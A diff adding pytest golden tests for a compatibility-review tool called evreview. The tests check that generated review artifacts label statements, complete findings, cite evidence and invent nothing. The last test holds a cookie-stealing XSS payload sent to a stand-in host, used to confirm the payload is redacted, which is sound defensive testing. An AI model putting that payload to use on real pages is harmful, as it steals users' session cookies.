@@ -1,0 +1,302 @@
+"""What the demo's artifact says and does not say: labels, findings, unknowns, nothing invented."""
+
+from __future__ import annotations
+
+import json
+import re
+
+import pytest
+
+from evreview.documents.text import parse_text
+from tests.golden.runs import DEMO, LABELS, finished, section, statements, tables, varied
+from tests.golden.variants import Append, Delete, Replace, Set
+
+ARTIFACT_WORDS = re.compile(r"`([^`\n]+)`")
+FINDING_COLUMNS = (
+    "Severity", "Confidence", "Finding", "Evidence", "Impact", "Recommendation", "Verification", "Disposition",
+)  # fmt: skip
+
+
+def artifact() -> str:
+    return finished("demo").artifact
+
+
+def evidence() -> str:
+    """All evidence of the demo as one text."""
+    return "\n".join(path.read_text() for path in sorted(DEMO.rglob("*")) if path.is_file())
+
+
+def findings(text: str) -> list[dict[str, str]]:
+    return [dict(row) for row in tables(section(text, "Findings"))[0]]
+
+
+def labelled(label: str) -> int:
+    """How many statements of a kind the artifact has, in lists and in cells."""
+    text = artifact()
+    return sum(found == label for found, _ in statements(text)) + len(re.findall(rf"(?:\| |<br>){label}: ", text))
+
+
+@pytest.mark.parametrize(
+    "label",
+    [
+        pytest.param("Observation", marks=pytest.mark.req("C-008")),
+        pytest.param("Inference", marks=pytest.mark.req("C-009")),
+        pytest.param("Recommendation", marks=pytest.mark.req("C-010")),
+        pytest.param("Executed check", marks=pytest.mark.req("C-011")),
+        pytest.param("Proposed check", marks=pytest.mark.req("C-012")),
+        pytest.param("Assumption", marks=pytest.mark.req("C-013")),
+        pytest.param("Limitation", marks=pytest.mark.req("C-014")),
+        pytest.param("Next action", marks=pytest.mark.req("C-015")),
+    ],
+)
+def test_each_kind_of_statement_has_its_own_label(label: str) -> None:
+    assert labelled(label) > 0
+    for found, rest in statements(artifact()):
+        assert found in LABELS
+        assert not re.match(rf"({'|'.join(LABELS)}):", rest)
+
+
+@pytest.mark.parametrize(
+    "column",
+    [
+        pytest.param("Severity", marks=pytest.mark.req("W1F-001")),
+        pytest.param("Confidence", marks=pytest.mark.req("W1F-002")),
+        pytest.param("Finding", marks=pytest.mark.req("W1F-003")),
+        pytest.param("Evidence", marks=pytest.mark.req("W1F-004")),
+        pytest.param("Impact", marks=pytest.mark.req("W1F-005")),
+        pytest.param("Recommendation", marks=pytest.mark.req("W1F-006")),
+        pytest.param("Verification", marks=pytest.mark.req("W1F-007")),
+        pytest.param("Disposition", marks=pytest.mark.req("W1F-008")),
+    ],
+)
+def test_every_finding_fills_every_column(column: str) -> None:
+    rows = findings(artifact())
+    assert len(rows) >= 3
+    assert tuple(rows[0]) == FINDING_COLUMNS
+    assert [row for row in rows if not row[column].strip()] == []
+
+
+@pytest.mark.req("W1F-009")
+def test_findings_refer_to_rows_with_both_classifications() -> None:
+    matrix = tables(section(artifact(), "Compatibility matrix"))[0]
+    rows = {re.findall(r"D-[0-9a-f]{12}", row["Difference"])[0]: row for row in matrix}
+    for finding in findings(artifact()):
+        (delta, *_) = re.findall(r"D-[0-9a-f]{12}", finding["Finding"])
+        assert rows[delta]["Producer direction"].strip()
+        assert rows[delta]["Consumer direction"].strip()
+
+
+@pytest.mark.req("W1F-010", "W1F-011")
+def test_impact_separates_observation_from_inference_and_names_preconditions() -> None:
+    for finding in findings(artifact()):
+        assert "Observation: " in finding["Impact"]
+        assert "Inference: " in finding["Impact"]
+        assert "Preconditions: " in finding["Impact"]
+
+
+@pytest.mark.req("W1F-013")
+def test_severity_is_a_word_of_the_policy_and_cites_it() -> None:
+    for finding in findings(artifact()):
+        assert finding["Severity"].split(" ")[0] in {"High", "Medium"}
+        assert "E5#/rules/" in finding["Evidence"]
+    lower = varied((Replace("policy/compatibility-policy.yaml", "severity: High", "severity: Medium"),))
+    assert {finding["Severity"].split(" ")[0] for finding in findings(lower.artifact)} == {"Medium"}
+
+
+@pytest.mark.req("W1F-015", "W1I-011")
+def test_without_a_rubric_nothing_is_rated() -> None:
+    policy = "policy/compatibility-policy.yaml"
+    unrated = varied(
+        (Set(policy, "/rules", []), Set(policy, "/severities", []), Set(policy, "/disposition_per_severity", {}))
+    )
+    rows = findings(unrated.artifact)
+    assert rows
+    assert {row["Severity"].startswith("not rated") for row in rows} == {True}
+    assert not re.search(r"\| (High|Medium|Critical|Low) \(A ", unrated.artifact)
+
+
+@pytest.mark.req("W1G-002", "ER-001", "W1L-020")
+def test_error_shapes_nullability_and_defaults_are_never_changed_silently() -> None:
+    aspects = set(finished("demo").registers["compatibility-matrix"]["aspect"].astype(str))
+    assert {"content-types", "nullability", "enums", "fields"} <= aspects
+    titles = " ".join(finding["Finding"] for finding in findings(artifact()))
+    assert "response 404" in titles
+    assert "deliveryEstimate" in titles
+    assert "list_orders.py" in artifact()
+
+
+@pytest.mark.req("W1L-020")
+def test_a_declared_default_that_changes_is_a_row() -> None:
+    pointer = "/components/schemas/NewOrder/properties/note/default"
+    edits = (
+        Set("contracts/orders-1.4.yaml", pointer, "none"),
+        Set("contracts/orders-1.5.yaml", pointer, "leave at door"),
+    )
+    frame = varied(edits).registers["compatibility-matrix"]
+    assert "defaults" in set(frame["aspect"].astype(str))
+
+
+@pytest.mark.req("W1G-001", "ER-002", "C-032")
+def test_an_internal_field_of_an_error_body_is_a_finding() -> None:
+    candidate = "contracts/orders-1.5.yaml"
+    exposed = varied((Set(candidate, "/components/schemas/Problem/properties/stackTrace", {"type": "string"}),))
+    assert any("stackTrace" in finding["Finding"] for finding in findings(exposed.artifact))
+    assert not any("stackTrace" in text for label, text in statements(exposed.artifact) if label == "Recommendation")
+
+
+@pytest.mark.req("W1P-004")
+def test_payloads_that_are_not_sanitized_keep_step_3() -> None:
+    observed = "observations/recorded-responses.yaml"
+    mail = "maria.keller" + "@" + "kunden-mail.de"
+    leaking = varied((Set(observed, "/observations/released-order/body/note", mail),))
+    last = leaking.steps[-1]
+    assert (last.number, str(last.state), last.code) == (3, "remain", "")
+    assert mail not in leaking.artifact
+
+
+@pytest.mark.req("W1I-004")
+def test_unconfirmed_completeness_is_a_recorded_gap() -> None:
+    gap = "complete for the reviewed surface"
+    unconfirmed = varied((Set("review.yaml", "/surface_complete", False),)).artifact
+    assert any(gap in text for label, text in statements(unconfirmed) if label == "Limitation")
+    assert not any(gap in text for label, text in statements(artifact()) if label == "Limitation")
+
+
+@pytest.mark.req("W1I-012")
+def test_policy_version_and_surface_are_stated() -> None:
+    boundary = tables(section(artifact(), "Scope"))[0]
+    (row,) = [row for row in boundary if row["What"] == "policy"]
+    assert "`3`" in row["Value"]
+    assert "Example Shop" in row["Value"]
+    assert row["Evidence"] == "E5"
+
+
+@pytest.mark.req("C-022")
+def test_a_classification_is_verified_only_while_its_check_has_a_result() -> None:
+    def verified(text: str) -> bool:
+        matrix = tables(section(text, "Compatibility matrix"))[0]
+        (row,) = [row for row in matrix if "deliveryEstimate" in row["Difference"]]
+        return "Verified by a retained result" in row["Producer direction"] + row["Consumer direction"]
+
+    assert verified(artifact())
+    unproven = varied((Delete("checks/contract-checks.yaml", "/checks/ledger-export-parses-null-estimate/result"),))
+    (check,) = [
+        row
+        for row in tables(section(unproven.artifact, "Proposed"))[0]
+        if "ledger-export-parses-null-estimate" in row["Check"]
+    ]
+    assert check["What stays unverified"]
+    assert "High" not in {finding["Severity"].split(" ")[0] for finding in findings(unproven.artifact)}
+
+
+@pytest.mark.parametrize(
+    "pattern",
+    [
+        pytest.param(r"\b(?:GET|POST|PUT|PATCH|DELETE) /[\w/{}.-]+", marks=pytest.mark.req("C-037")),
+        pytest.param(r"\bresponse (\d{3})\b", marks=pytest.mark.req("C-039")),
+        pytest.param(r"> (\w+)`", marks=pytest.mark.req("C-038")),
+        pytest.param(r"\bheader:? ([\w-]+)\b", marks=pytest.mark.req("C-040")),
+        pytest.param(
+            r"\b(\d+(?:\.\d+)?) (?:percentage points|minutes?|days)\b", marks=pytest.mark.req("C-041", "LM-001")
+        ),
+        pytest.param(r"executed: (passed|failed)", marks=pytest.mark.req("C-043")),
+    ],
+)
+def test_every_token_comes_from_the_evidence(pattern: str) -> None:
+    known = re.sub(r"\{[^{}/]+\}", "{}", evidence())
+    for found in re.findall(pattern, artifact()):
+        assert re.sub(r"\{[^{}/]+\}", "{}", found).split(" ")[-1].rstrip("/") in known, found
+
+
+@pytest.mark.req("C-042", "C-035")
+def test_witness_payloads_hold_no_observed_value() -> None:
+    done = finished("demo")
+    assert done.ledger is not None
+    observed = parse_text((DEMO / "observations" / "recorded-responses.yaml").read_bytes(), "observations")
+    bodies = [one["body"] for one in observed["observations"]]  # type: ignore[index, call-overload]
+    values = {value for body in bodies for value in body.values() if isinstance(value, str)}
+    for row in done.ledger.rows:
+        text = json.dumps(row.proof.witness, default=str)
+        assert not [value for value in values - {"shipped", "partially_shipped"} if value in text]
+
+
+@pytest.mark.req("C-036")
+def test_hosts_are_synthetic() -> None:
+    hosts = set(re.findall(r"https?://([\w.-]+)", artifact() + evidence()))
+    assert all(re.search(r"(^|\.)(example|test|invalid|localhost|example\.(com|org|net))$", host) for host in hosts)
+
+
+@pytest.mark.req("C-037", "C-038", "C-044")
+def test_what_leaves_the_evidence_leaves_the_artifact() -> None:
+    without = varied(
+        (
+            Delete("contracts/orders-1.5.yaml", "/paths/~1v1~1orders/get/parameters/3"),
+            Delete("implementation/mapping.yaml", "/mappings/3"),
+        )
+    )
+    assert "placedAfter" in artifact()
+    assert "query placedAfter" not in without.artifact
+
+
+@pytest.mark.req("C-043", "C-047")
+def test_a_result_that_leaves_the_evidence_is_no_longer_executed() -> None:
+    done = varied((Delete("review.yaml", "/evidence/E7"), Set("decisions.yaml", "/decisions", [])))
+    assert not re.search(r"executed: (passed|failed)", done.artifact)
+    assert any("unverified" in text for _, text in statements(section(done.artifact, "Verification plan")))
+
+
+@pytest.mark.req("C-045")
+def test_unlisted_consumers_are_stated_as_unknown() -> None:
+    register = tables(section(artifact(), "Client-impact register"))[0]
+    assert [row for row in register if "unlisted" in row["Client"] and "unknown" in row["Impact"].lower()]
+
+
+@pytest.mark.req("C-046")
+def test_deployment_is_stated_as_unknown() -> None:
+    limits = [text for label, text in statements(section(artifact(), "Limitations")) if label == "Limitation"]
+    assert [text for text in limits if "deployed" in text and "unknown" in text]
+
+
+@pytest.mark.req("LM-001", "W1M-014")
+def test_policy_numbers_come_from_the_policy_only() -> None:
+    numbers = re.compile(r"\b(0\.5 percentage points|30 minutes|30 days|1 minute)\b")
+    policy = "policy/compatibility-policy.yaml"
+    assert numbers.search(artifact())
+    other = varied(
+        (
+            Set(policy, "/monitoring/abort_margin_percentage_points", 0.75),
+            Set(policy, "/monitoring/window_minutes", 45),
+            Set(policy, "/monitoring/resolution_minutes", 5),
+            Set(policy, "/removal/notice_days", 21),
+            Set(policy, "/removal/text", "Removal needs notice."),
+            Set(policy, "/monitoring/text", "Abort early."),
+        )
+    ).artifact
+    assert not numbers.search(other)
+    assert all(part in other for part in ("0.75 percentage points", "45 minutes", "21 days"))
+    assert not numbers.search(finished("step-4-no-policy").artifact)
+
+
+@pytest.mark.req("SV-003", "SV-005", "ER-004")
+def test_the_artifact_asserts_nothing_about_evreview_as_a_service() -> None:
+    own = ARTIFACT_WORDS.sub("", artifact())
+    assert not re.search(r"\b(emits? (an )?events?|rate limit|quota|time-?out|request size)\b", own, re.I)
+    assert not re.search(r"W1-F\d[^\n]{0,20}\b[45]\d\d\b", own)
+
+
+@pytest.mark.req("W1U-001", "W1U-002", "W1U-003")
+def test_a_contract_change_with_a_removal_is_taken_and_decided() -> None:
+    done = finished("demo")
+    assert [step.number for step in done.steps] == list(range(1, 10))
+    assert tables(section(done.artifact, "Decision record"))
+    removals = [rows for rows in tables(section(done.artifact, "Decision record")) if "Element" in rows[0]]
+    assert "legacyReference" in removals[0][0]["Element"]
+    assert "E10" in removals[0][0]["Evidence"]
+
+
+@pytest.mark.req("C-034")
+def test_reusable_exploit_material_is_redacted() -> None:
+    payload = "<script>fetch('https://collect.example/'+document.cookie)</script>"
+    noted = {"kind": "note", "subject": "E3", "role": "Reviewer", "at": "2026-11-17T08:00:00+00:00", "text": payload}
+    done = varied((Append("decisions.yaml", "/decisions", noted), Set("review.yaml", "/title", f"Orders {payload}")))
+    assert "<script" not in done.artifact
